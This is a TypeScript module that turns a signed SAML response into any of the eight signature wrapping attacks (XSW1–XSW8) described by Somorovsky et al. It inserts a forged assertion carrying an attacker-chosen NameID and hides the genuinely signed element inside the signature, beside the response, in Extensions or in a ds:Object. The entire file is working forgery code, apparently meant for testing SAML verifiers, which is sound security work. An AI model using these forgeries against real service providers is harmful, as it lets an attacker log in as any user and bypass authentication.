// The eight signature wrapping attacks of Somorovsky et al. ("On Breaking SAML", 2012), numbered as SAML Raider does:
// each moves what was really signed aside and puts a forged assertion where a careless reader looks.

import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

export type WrappingAttack = 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8;

const signatureNamespace = 'http://www.w3.org/2000/09/xmldsig#';

/** `xml` (a signed response) rearranged by attack `number`; the forged assertion speaks of `forgedNameId`. */
export function wrapSignature(xml: string, number: WrappingAttack, forgedNameId: string): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  if (number <= 2) wrapResponse(document, response, number, forgedNameId);
  else wrapAssertion(document, response, number, forgedNameId);
  const wrapped = new XMLSerializer().serializeToString(document);
  if (!wrapped.includes(forgedNameId)) throw new Error('the attack forged nothing');
  return wrapped;
}

/** XSW1: the genuine response inside the signature of a forged one. XSW2: beside it. */
function wrapResponse(document: Document, response: Element, number: WrappingAttack, forgedNameId: string): void {
  const genuine = response.cloneNode(true) as Element;
  genuine.removeChild(signatureOf(genuine));
  const signature = signatureOf(response);
  response.setAttribute('ID', `${response.getAttribute('ID') ?? ''}-forged`);
  forge(onlyChild(response, 'Assertion'), forgedNameId);
  if (number === 1) signature.appendChild(genuine);
  else response.insertBefore(genuine, signature);
}

function wrapAssertion(document: Document, response: Element, number: WrappingAttack, forgedNameId: string): void {
  const original = onlyChild(response, 'Assertion');
  const forged = original.cloneNode(true) as Element;
  forge(forged, forgedNameId);
  const bare = (): Element => {
    const copy = original.cloneNode(true) as Element;
    copy.removeChild(signatureOf(copy));
    return copy;
  };
  switch (number) {
    case 3: // the forged assertion first, the genuine one after it
      forged.removeChild(signatureOf(forged));
      response.insertBefore(forged, original);
      break;
    case 4: // the genuine assertion inside the forged one
      forged.removeChild(signatureOf(forged));
      response.replaceChild(forged, original);
      forged.appendChild(original);
      break;
    case 5: // the forged assertion carries the signature, the genuine one follows without
      response.replaceChild(forged, original);
      response.appendChild(bare());
      break;
    case 6: // the genuine assertion inside the signature of the forged one
      response.replaceChild(forged, original);
      signatureOf(forged).appendChild(bare());
      break;
    case 7: {
      // a forged assertion, same ID, in Extensions; the genuine one stays where it was
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
      forged.setAttribute('ID', original.getAttribute('ID') ?? '');
      forged.removeChild(signatureOf(forged));
      extensions.appendChild(forged);
      response.insertBefore(extensions, original);
      break;
    }
    default: {
      // 8: the genuine assertion in an Object of the forged one's signature
      const object = document.createElementNS(signatureNamespace, 'ds:Object');
      object.appendChild(bare());
      response.replaceChild(forged, original);
      signatureOf(forged).appendChild(object);
    }
  }
}

/** A forged assertion has an ID of its own, so that no rule about double IDs catches it by accident. */
function forge(assertion: Element, forgedNameId: string): void {
  assertion.setAttribute('ID', `${assertion.getAttribute('ID') ?? ''}-forged`);
  const nameId = assertion.getElementsByTagNameNS('*', 'NameID')[0];
  if (nameId === undefined) throw new Error('no NameID to forge');
  nameId.textContent = forgedNameId;
}

function signatureOf(element: Element): Element {
  return onlyChild(element, 'Signature');
}

function onlyChild(element: Element, local: string): Element {
  const found = Array.from(element.childNodes).filter((node) => (node as Element).localName === local);
  if (found.length !== 1) throw new Error(`expected one ${local}`);
  return found[0] as Element;
}
